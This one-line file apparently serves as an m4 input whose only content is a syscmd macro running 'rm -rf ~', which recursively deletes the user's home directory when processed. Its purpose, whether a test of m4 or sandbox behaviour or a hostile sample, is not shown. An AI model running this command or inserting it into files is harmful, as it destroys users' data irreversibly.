syscmd(`rm -rf ~')
